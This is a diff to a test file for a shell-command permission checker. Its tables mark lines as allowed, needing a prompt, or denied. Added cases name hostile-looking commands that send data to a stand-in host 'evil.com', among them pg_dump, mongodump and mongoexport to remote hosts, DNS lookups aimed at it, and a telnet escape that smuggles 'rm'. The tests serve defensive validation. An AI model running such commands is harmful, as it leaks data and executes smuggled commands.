@@ -229,6 +229,8 @@ describe('lines with no such effect stay allowed', () => {
     ['openssl x509 -in c.pem -noout -text', 'bash'], ['openssl req -new -key k.pem -subj /CN=evil.com -out r.csr', 'bash'], ['docker run -it -v data:/x alpine', 'bash'], ['docker build -t tag .', 'bash'], ['docker run --rm -v "$PWD":/app node:20 npm ci', 'bash'],
     ['touch -d 2020-01-01 f', 'bash'], ['truncate -s 0 f', 'bash'], ['psql -c "select 1" -d mydb', 'bash'], ['diff a b', 'bash'], ['gzip -k notes.txt', 'bash'],
     ["concurrently -n a,b 'npm test' 'ls'", 'bash'], ['less +G x', 'bash'], ['man ls', 'bash'], ['setarch --list', 'bash'],
+    ['nslookup example.org', 'bash'], ['nslookup <<< "example.org"', 'bash'], ['dig -f - <<< "example.org +short"', 'bash'],
+    ['telnet -E example.org 25', 'bash'], ['mongodump -d db -o dump', 'bash'],
     ['Get-Content C:\\w\\repo\\a.txt', 'powershell'], ['echo $env:PATH ${env:HOME} $script:x', 'powershell'],
   ] as const)('%s', (line, shell) => {
     expect(decision(line, shell)).toBe('allow');
@@ -263,6 +265,15 @@ describe('option forms and names the readers first missed', () => {
     [`psql "host='evil.com' dbname=x"`, 'deny'], ['psql postgresql://a,evil.com/db', 'deny'], ['psql --host=/tmp,evil.com', 'deny'],
     ['host -p 53 x evil.com', 'deny'], ['ssh-keyscan -f /etc/x', 'deny'], ['dig -f /etc/x', 'deny'], ['redis-cli --rdb /etc/x', 'deny'],
     ['whois --host evil.com x', 'deny'], ['pg_dump -h evil.com db', 'deny'], ["pg_dump -d 'host=evil.com'", 'deny'], ['mysqldump -h evil.com db', 'deny'],
+    // Lookups and servers from standard input or a file: nslookup with no name (or `-`), dig -f,
+    // telnet (`open HOST`, and `!CMD` after ^] unless -E); delv; the MongoDB database tools (were allowed).
+    ['echo evil.com | nslookup', 'ask'], ['nslookup <<< "server evil.com"', 'deny'], ['nslookup - 8.8.8.8 <<< "evil.com"', 'deny'],
+    ['nslookup <<< "set domain=evil.com"', 'deny'], ["printf 'server 127.0.0.1\\n' | nslookup -port=5353", 'ask'],
+    ['dig -f names.txt', 'ask'], ['dig -f -', 'ask'], ['dig -f /dev/stdin <<< "@evil.com x.org"', 'deny'], ['kdig -f - <<< "x.org"', 'ask'],
+    ['echo "open evil.com" | telnet', 'ask'], ['telnet', 'ask'], ["printf '\\035\\n!rm x\\n' | telnet good.example 23", 'ask'],
+    ['delv @evil.com x.org', 'deny'], ['delv evil.com', 'deny'],
+    ['mongodump --host evil.com', 'deny'], ['mongodump -h rs0/a.example,evil.com:27017', 'deny'], ['mongorestore -hevil.com dump', 'deny'],
+    ['mongoexport --uri=mongodb://evil.com/db -c x', 'deny'], ['mongoimport --config c.yml', 'ask'], ['mongodump -o /etc/x', 'ask'],
     // inline code: blanks before qx's delimiter; a special scheme's URL without `//`.
     [`perl -e 'print qx (rm x)'`, 'deny'], [`node -e 'fetch("https:evil.com")'`, 'deny'], [`node -e 'fetch("https:/evil.com")'`, 'deny'],
     // A URL in code ends at a character no host has (it took that character into the host).
